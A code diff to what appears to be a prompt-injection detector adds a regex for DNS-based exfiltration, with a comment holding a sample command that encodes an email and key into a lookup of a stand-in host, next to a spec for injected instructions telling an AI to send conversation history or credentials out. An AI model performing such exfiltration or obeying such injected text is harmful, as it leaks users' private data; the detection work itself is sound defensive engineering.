@@ -127,7 +127,12 @@ SPECS: tuple[_Spec, ...] = (
               r"|(?=$|[\s)\"'<>,;]|\.(?:\s|$)))", word=False),
            # broadened (A3): a data placeholder anywhere after the host, in the query or path
            _p(("http",), r"s?://[\w.-]{1,100}+(?:[:/?#][^\s)\"']{0,300}?)?(?:"
-              + r"[?&][\w-]{1,40}=" + _PLACEHOLDER + "|" + _PATH_PLACEHOLDER + ")", word=False))),
+              + r"[?&][\w-]{1,40}=" + _PLACEHOLDER + "|" + _PATH_PLACEHOLDER + ")", word=False),
+           # (round 10) a host name built from placeholders, to be looked up: the data leaves in
+           # the DNS query ("resolve <email_b32>.<key_b32>.t.dnscheck-telemetry.example")
+           _p(("nslookup", "dig", "resolve", "ping", "lookup", "host"),
+              r"\b[^\n]{0,60}?(?:<[a-z_][\w.-]{0,40}>|\{[a-z_][\w.-]{0,40}\})\.(?:[\w<>{}-]{1,60}\.)*"
+              r"[a-z][\w-]{1,30}\b", requires=("<", "{")))),
     _Spec("PI-EXFIL-SEND", "exfiltration",
           "Tells the AI to send conversation history, credentials or personal data to an "
           "outside address.",
